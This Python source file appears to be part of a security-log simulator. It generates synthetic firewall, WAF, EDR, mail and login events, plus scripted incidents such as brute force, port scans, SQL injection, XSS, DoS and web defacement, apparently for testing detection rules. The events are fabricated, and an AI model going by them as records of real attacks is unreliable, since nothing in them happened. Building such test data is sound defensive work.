def _row_time(row: tuple[float, int, dict[str, Any]]) -> tuple[float, int]:
    return row[0], row[1]


def _row_ts(row: tuple[float, int, dict[str, Any]]) -> float:
    return row[0]


def _number(value: Any, name: str, low: float) -> float:
    if isinstance(value, bool) or not isinstance(value, (int, float)) or not math.isfinite(value) or value < low:
        raise ValueError(f"{name} ({value!r}) must be a number >= {low}")
    return float(value)


_PARAMS: dict[str, set[str]] = {
    "brute_force": {"interval_s", "user", "target"},
    "brute_force_success": {"interval_s", "user", "target"},
    "port_scan": {"rate", "dst_ip"},
    "sweep": {"rate", "port"},
    "sqli": {"interval_s", "host"},
    "sqli_success": {"interval_s", "host"},
    "xss": {"interval_s", "host"},
    "dos": {"rate", "host"},
    "long_url": {"length", "count", "host"},
    "defacement": {"files"},
    "new_src_login": {"user", "logins"},
}


class _Background:
    """One replay of the background: a fresh generator from the seed, hour blocks in order."""

    def __init__(self, sim: CyberSimulator) -> None:
        self.sim = sim
        self.rng = np.random.default_rng([sim.seed, 0])
        self.order = 0
        self.day_rows: dict[int, list[tuple[float, int, dict[str, Any]]]] = {}
        self.seen_users: set[str] = set()
        self.home_seen: set[str] = set()
        self.probe_pool = [f"203.0.113.{i}" for i in range(1, 200)]
        self.client_pool = ([f"192.0.2.{i}" for i in range(1, 255)] + [f"203.0.113.{i}" for i in range(1, 200)]
                            + [f"2001:db8:{0x100 + i:x}::{(i * 7919) % 0xFFFF:x}" for i in range(400)])
        self.targets = [f"198.51.100.{i}" for i in range(1, 255)]
        self.probe_p = _cumulative(_PROBE_WEIGHTS)
        self.ua_p = _cumulative(_UA_WEIGHTS)
        self.status_p = _cumulative(_STATUS_P)
        self.site_p = [_cumulative(s.weights) for s in _SITES]
        self.hosts = [f"may-tram-{i:03d}" for i in range(1, 400)]

    def _next(self) -> int:
        self.order += 1
        return self.order

    def block(self, t0: float) -> list[tuple[float, int, dict[str, Any]]]:
        """Background rows of the hour [t0, t0 + 1 h), unsorted."""
        sim = self.sim
        rows: list[tuple[float, int, dict[str, Any]]] = []
        local_day = math.floor((t0 + _LOCAL_OFFSET_S) / _DAY_S)
        if local_day not in self.day_rows:
            self.day_rows = {local_day: self._day(local_day)}
        rows.extend(r for r in self.day_rows[local_day] if t0 <= r[0] < t0 + _BLOCK_S)
        hour = int((t0 + _LOCAL_OFFSET_S) % _DAY_S // 3600)
        weekend = (local_day + 3) % 7 >= 5
        self._probes(rows, t0)
        web_factor = _WEB_PROFILE[hour] * (_WEEKEND_WEB if weekend else 1.0) * sim.volume
        for index, site in enumerate(_SITES):
            self._web(rows, t0, index, site, site.per_day / 24.0 * web_factor)
        if sim._edr:
            work = 2.0 if 7 <= hour < 17 and not weekend else 0.3
            self._edr(rows, t0, sim.edr_per_day / 24.0 * work * sim.volume)
        if sim._mail:
            self._mail(rows, t0, sim.volume)
        if (sim._fim is not None and sim._window is not None and _in_window(t0, sim._window)
                and not _in_window(t0 - _BLOCK_S, sim._window)):
            self._deploy(rows, t0)
        return rows

    def _times(self, t0: float, expected: float) -> list[float]:
        n = int(self.rng.poisson(expected)) if expected > 0 else 0
        if n == 0:
            return []
        return np.round(t0 + self.rng.random(n) * _BLOCK_S, 3).tolist()

    def _probes(self, rows: list[tuple[float, int, dict[str, Any]]], t0: float) -> None:
        sim, rng = self.sim, self.rng
        times = self._times(t0, sim.probes_per_day / 24.0 * sim.volume)
        n = len(times)
        if not n:
            return
        kind = rng.random(n).tolist()
        pool = rng.integers(0, len(self.probe_pool), n).tolist()
        v6 = rng.integers(1, 0xFFFF, (n, 2)).tolist()
        dst = rng.integers(0, len(self.targets), n).tolist()
        port = np.searchsorted(self.probe_p, rng.random(n), side="right").tolist()
        sig = rng.integers(0, len(_IDS_SIGNATURES), n).tolist()
        fw, ids = sim._firewalls, sim._ids
        for i, t in enumerate(times):
            src = self.probe_pool[pool[i]] if kind[i] < 0.7 else f"2001:db8:{v6[i][0]:x}::{v6[i][1]:x}"
            if ids and kind[i] >= 0.85:
                event = {"source_id": ids[0], "event_action": "ids_alert", "src_ip": src,
                         "dst_ip": self.targets[dst[i]], "dst_port": _PROBE_PORTS[port[i]],
                         "signature": _IDS_SIGNATURES[sig[i]]}
            else:
                event = {"source_id": fw[0] if kind[i] < 0.75 or len(fw) == 1 else fw[1],
                         "event_action": "connection", "event_outcome": "failure", "src_ip": src,
                         "dst_ip": self.targets[dst[i]], "dst_port": _PROBE_PORTS[port[i]]}
            rows.append((t, self._next(), event))

    def _web(self, rows: list[tuple[float, int, dict[str, Any]]], t0: float, index: int, site: _Site,
             expected: float) -> None:
        sim, rng = self.sim, self.rng
        times = self._times(t0, expected)
        n = len(times)
        if not n:
            return
        waf = sim._wafs[site.waf % len(sim._wafs)]
        client = rng.integers(0, len(self.client_pool), n).tolist()
        path = np.searchsorted(self.site_p[index], rng.random(n), side="right").tolist()
        status = np.searchsorted(self.status_p, rng.random(n), side="right").tolist()
        ua = np.searchsorted(self.ua_p, rng.random(n), side="right").tolist()
        extra = rng.random(n).tolist()
        pick = rng.integers(0, 1 << 30, n).tolist()
        for i, t in enumerate(times):
            code = _STATUS[status[i]]
            method = "GET"
            signature = None
            agent = _UAS[ua[i]]
            if site.host == "api.hue-s.vn" and extra[i] < 0.7:
                agent = _UAS[5]
            if code == 404:
                url = _MISSING_PATHS[pick[i] % len(_MISSING_PATHS)]
            elif extra[i] < 0.004:  # a single scanner request blocked by the WAF
                url, signature = _BLOCKED[pick[i] % len(_BLOCKED)]
                code, agent = 403, _SCANNER_UAS[pick[i] % len(_SCANNER_UAS)]
            elif extra[i] > 0.95 and site.post_paths:
                url, method = site.post_paths[pick[i] % len(site.post_paths)], "POST"
            else:
                url = site.paths[path[i]]
            event = {"source_id": waf, "event_action": "http_request", "src_ip": self.client_pool[client[i]],
                     "dst_ip": site.dst_ip, "dst_port": 443, "host": site.host, "url": url,
                     "http_method": method, "http_status": code, "user_agent": agent}
            if signature is not None:
                event["signature"] = signature
            rows.append((t, self._next(), event))

    def _edr(self, rows: list[tuple[float, int, dict[str, Any]]], t0: float, expected: float) -> None:
        rng = self.rng
        users = self.sim._users
        for t in self._times(t0, expected):
            i = int(rng.integers(1 << 30))
            rows.append((t, self._next(), {
                "source_id": self.sim._edr[0], "event_action": "malware_detected", "event_outcome": "success",
                "host": self.hosts[i % len(self.hosts)], "user": users[i % len(users)].name,
                "signature": _EDR_SIGNATURES[(i >> 9) % len(_EDR_SIGNATURES)],
            }))

    def _mail(self, rows: list[tuple[float, int, dict[str, Any]]], t0: float, volume: float) -> None:
        sim, rng = self.sim, self.rng
        for expected, names in ((sim.mail_malware_per_day, _MAIL_MALWARE), (sim.mail_phishing_per_day, _MAIL_PHISHING)):
            for t in self._times(t0, expected / 24.0 * volume):
                i = int(rng.integers(1 << 30))
                src = self.probe_pool[i % len(self.probe_pool)]
                rows.append((t, self._next(), {
                    "source_id": sim._mail[0], "event_action": "email_blocked", "src_ip": src,
                    "dst_ip": "198.51.100.50", "dst_port": 25, "host": "mail.hue.gov.vn",
                    "user": sim._users[(i >> 8) % len(sim._users)].name, "signature": names[(i >> 4) % len(names)],
                }))

    def _deploy(self, rows: list[tuple[float, int, dict[str, Any]]], t0: float) -> None:
        """A planned deployment in the first hour of the change window: a handful of web-root changes."""
        sim, rng = self.sim, self.rng
        assert sim._fim is not None and sim._window is not None
        if rng.random() >= sim.deploy_p:
            return
        begin = t0 + float(rng.random()) * 1800.0
        for k in range(int(rng.integers(3, 9))):
            t = round(begin + k * float(rng.uniform(2.0, 20.0)), 3)
            if not _in_window(t, sim._window):
                break
            name = _DEPLOY_FILES[int(rng.integers(len(_DEPLOY_FILES)))]
            rows.append((t, self._next(), {
                "source_id": sim._fim.source_id, "event_action": "file_modified", "host": _WEB_SERVER,
                "user": "deploy", "url": _WEB_ROOT + name,
            }))

    def _day(self, local_day: int) -> list[tuple[float, int, dict[str, Any]]]:
        """Logins of one local day: office logins on working days, VPN logins from home."""
        rng, sim = self.rng, self.sim
        local0 = local_day * _DAY_S - _LOCAL_OFFSET_S
        weekday = (local_day + 3) % 7 < 5
        rows: list[tuple[float, int, dict[str, Any]]] = []
        fw_vpn = sim._firewalls[1 % len(sim._firewalls)]
        portal_waf = sim._wafs[1 % len(sim._wafs)]
        # Logins before the run's start are not emitted, so they teach the rule nothing.
        counts_from = sim.start
        for user in sim._users:
            times: list[tuple[float, bool]] = []  # (time, from home)
            if weekday:
                morning = local0 + float(rng.uniform(7.25, 8.75)) * 3600
                if user.name not in self.seen_users or rng.random() < 0.93:
                    times.append((morning, False))
                for _ in range(int(rng.poisson(1.3))):
                    times.append((local0 + float(rng.uniform(8.5, 17.0)) * 3600, False))
            if user.home_ip is not None:
                p_home = 0.3 if weekday else 0.12
                if user.name not in self.home_seen or rng.random() < p_home:
                    times.append((local0 + float(rng.uniform(19.0, 22.5)) * 3600, True))
            elif not weekday and rng.random() < 0.05:
                times.append((local0 + float(rng.uniform(8.0, 11.0)) * 3600, False))
            for t, home in times:
                t = round(t, 3)
                if t >= counts_from:
                    self.seen_users.add(user.name)
                    if home:
                        self.home_seen.add(user.name)
                service, sensor = (_VPN, fw_vpn) if home else (_PORTAL, portal_waf)
                src = user.home_ip if home else user.office_ip
                assert src is not None
                base = {"source_id": sensor, "event_action": "authentication", "src_ip": src,
                        "dst_ip": service.dst_ip, "dst_port": service.dst_port, "user": user.name,
                        "host": service.host}
                if rng.random() < 0.05:  # a mistyped password, then the retry succeeds
                    for k in range(1 + int(rng.random() < 0.25)):
                        rows.append((round(t - float(rng.uniform(4.0, 25.0)) * (k + 1), 3), self._next(),
                                     {**base, "event_outcome": "failure"}))
                rows.append((t, self._next(), {**base, "event_outcome": "success"}))
        return rows


def _cumulative(weights: Sequence[float]) -> np.ndarray:
    p = np.cumsum(np.asarray(weights, dtype=float))
    p /= p[-1]
    p[-1] = 1.0 + 1e-9  # searchsorted never returns len(weights)
    return p


# --- incident generators: (ts, event) lists, ts rounded to ms -----------------------------------

_Rows = list[tuple[float, dict[str, Any]]]


def _grid(at: float, count: int, interval: float, rng: np.random.Generator) -> list[float]:
    """`count` times `interval` apart from `at`; interior ones jittered by +-20% (ends exact)."""
    jitter = 0.2 * interval * (2.0 * rng.random(count) - 1.0)
    jitter[0] = jitter[-1] = 0.0
    return np.round(at + np.arange(count) * interval + jitter, 3).tolist()


def _auth_target(sim: CyberSimulator, target: str) -> tuple[_Service, str]:
    if target == "ssh":
        return _SSH, sim._firewalls[0]
    if target == "vpn":
        return _VPN, sim._firewalls[1 % len(sim._firewalls)]
    return _PORTAL, sim._wafs[1 % len(sim._wafs)]


def _gen_brute(sim: CyberSimulator, inc: Incident, p: dict[str, Any], rng: np.random.Generator) -> _Rows:
    service, sensor = _auth_target(sim, p["target"])
    interval = p["interval_s"]
    success = inc.kind == "brute_force_success"
    count = int((inc.end - inc.start) // interval + 1e-9) + (0 if success else 1)
    rows: _Rows = []
    for i, t in enumerate(_grid(inc.start, count, interval, rng)):
        user = p.get("user") or _BRUTE_USERS[i % len(_BRUTE_USERS)]
        rows.append((t, {"source_id": sensor, "event_action": "authentication", "event_outcome": "failure",
                         "src_ip": p["src_ip"], "dst_ip": service.dst_ip, "dst_port": service.dst_port,
                         "user": user, "host": service.host}))
    if success:  # the password was guessed: same address, same account, at the end
        rows.append((round(inc.end, 3), {**rows[-1][1], "event_outcome": "success"}))
    return rows


def _gen_port_scan(sim: CyberSimulator, inc: Incident, p: dict[str, Any], rng: np.random.Generator) -> _Rows:
    rate = p["rate"]
    count = min(int((inc.end - inc.start) * rate + 1e-6) + 1, 65535)
    common = [1, 7, 21, 22, 23, 25, 53, 80, 110, 111, 135, 139, 143, 443, 445, 993, 995, 1433, 1723, 3306, 3389,
              5432, 5900, 6379, 8080, 8443, 9200, 27017]
    rest = [q for q in (rng.permutation(65535) + 1).tolist() if q not in set(common)]
    ports = (common + rest)[:count]
    sensor = sim._ids[0] if sim._ids else sim._firewalls[0]
    open_ports = {22, 80, 443}
    return [(round(inc.start + i / rate, 3), {
        "source_id": sensor, "event_action": "connection",
        "event_outcome": "success" if port in open_ports else "failure", "src_ip": p["src_ip"],
        "dst_ip": p["dst_ip"], "dst_port": port}) for i, port in enumerate(ports)]


def _gen_sweep(sim: CyberSimulator, inc: Incident, p: dict[str, Any], rng: np.random.Generator) -> _Rows:
    rate = p["rate"]
    count = int((inc.end - inc.start) * rate + 1e-6) + 1
    hosts = [f"198.51.100.{i}" for i in (rng.permutation(254) + 1).tolist()]
    return [(round(inc.start + i / rate, 3), {
        "source_id": sim._firewalls[0], "event_action": "connection", "event_outcome": "failure",
        "src_ip": p["src_ip"], "dst_ip": hosts[i % len(hosts)], "dst_port": p["port"]}) for i in range(count)]


def _gen_web_attack(sim: CyberSimulator, inc: Incident, p: dict[str, Any], rng: np.random.Generator) -> _Rows:
    site = sim._site(p, "hue.gov.vn")
    waf = sim._wafs[site.waf % len(sim._wafs)]
    count = int((inc.end - inc.start) // p["interval_s"] + 1e-9) + 1
    times = _grid(inc.start, count, p["interval_s"], rng)
    xss = inc.kind == "xss"
    urls, signature = (_XSS_URLS, _XSS_SIGNATURE) if xss else (_SQLI_URLS, _SQLI_SIGNATURE)
    agent = "Mozilla/5.0 (X11; Linux x86_64) Firefox/115.0" if xss else "sqlmap/1.7.11#stable (https://sqlmap.org)"
    offset = int(rng.integers(len(urls)))
    rows: _Rows = []
    for i, t in enumerate(times):
        event = {"source_id": waf, "event_action": "http_request", "src_ip": p["src_ip"], "dst_ip": site.dst_ip,
                 "dst_port": 443, "host": site.host, "url": urls[(offset + i) % len(urls)], "http_method": "GET",
                 "http_status": 403, "user_agent": agent}
        if rng.random() < 0.6:
            event["signature"] = signature
        rows.append((t, event))
    if inc.kind == "sqli_success":  # the WAF missed a time-based blind injection: answered 200
        event = rows[-1][1]
        event.pop("signature", None)
        event.update(url=_SQLI_SUCCESS_URL, http_status=200)
    return rows


def _gen_dos(sim: CyberSimulator, inc: Incident, p: dict[str, Any], rng: np.random.Generator) -> _Rows:
    site = sim._site(p, "dichvucong.hue.gov.vn")
    rate = p["rate"]
    waf = sim._wafs[site.waf % len(sim._wafs)]
    count = int((inc.end - inc.start) * rate + 1e-6) + 1
    paths = site.paths
    rows: _Rows = []
    owed = 0.0
    for i in range(count):
        t = inc.start + i / rate
        # The service degrades over the first ~20 s of the flood, then answers 85% with 503.
        owed += min(0.85, 0.3 + 0.55 * (t - inc.start) / 20.0)
        status = 200
        if owed >= 1.0:
            owed -= 1.0
            status = 503
        rows.append((round(t, 3), {
            "source_id": waf, "event_action": "http_request", "src_ip": p["src_ip"], "dst_ip": site.dst_ip,
            "dst_port": 443, "host": site.host, "url": paths[int(rng.integers(len(paths)))], "http_method": "GET",
            "http_status": status, "user_agent": _SCANNER_UAS[2]}))
    return rows


def _gen_long_url(sim: CyberSimulator, inc: Incident, p: dict[str, Any], rng: np.random.Generator) -> _Rows:
    site = sim._site(p, "hue.gov.vn")
    waf = sim._wafs[site.waf % len(sim._wafs)]
    count = p["count"]
    prefix = "/tim-kiem?q="
    rows: _Rows = []
    for i in range(count):  # fuzzing the search box: lengths length, length + 1, ...
        t = inc.start + (inc.end - inc.start) * i / max(1, count - 1)
        rows.append((round(t, 3), {
            "source_id": waf, "event_action": "http_request", "src_ip": p["src_ip"], "dst_ip": site.dst_ip,
            "dst_port": 443, "host": site.host, "url": prefix + "A" * (p["length"] + i - len(prefix)),
            "http_method": "GET", "http_status": 414, "user_agent": _SCANNER_UAS[1]}))
    return rows


def _gen_defacement(sim: CyberSimulator, inc: Incident, p: dict[str, Any], rng: np.random.Generator) -> _Rows:
    assert sim._fim is not None
    files = p["files"]
    actions = ("file_modified", "file_created", "file_created", "file_modified", "file_created", "file_renamed")
    return [(round(inc.start + (inc.end - inc.start) * i / max(1, files - 1), 3), {
        "source_id": sim._fim.source_id, "event_action": actions[i % len(actions)], "host": _WEB_SERVER,
        "user": "www-data", "url": _WEB_ROOT + _DEFACE_FILES[i % len(_DEFACE_FILES)]}) for i in range(files)]


def _gen_new_src_login(sim: CyberSimulator, inc: Incident, p: dict[str, Any], rng: np.random.Generator) -> _Rows:
    logins = p["logins"]
    return [(round(inc.start + (inc.end - inc.start) * i / max(1, logins - 1), 3), {
        "source_id": sim._firewalls[1 % len(sim._firewalls)], "event_action": "authentication",
        "event_outcome": "success", "src_ip": p["src_ip"], "dst_ip": _VPN.dst_ip, "dst_port": _VPN.dst_port,
        "user": p["user"], "host": _VPN.host}) for i in range(logins)]


_GENERATORS: dict[str, Callable[[CyberSimulator, Incident, dict[str, Any], np.random.Generator], _Rows]] = {
    "brute_force": _gen_brute,
    "brute_force_success": _gen_brute,
    "port_scan": _gen_port_scan,
    "sweep": _gen_sweep,
    "sqli": _gen_web_attack,
    "sqli_success": _gen_web_attack,
    "xss": _gen_web_attack,
    "dos": _gen_dos,
    "long_url": _gen_long_url,
    "defacement": _gen_defacement,
    "new_src_login": _gen_new_src_login,
}
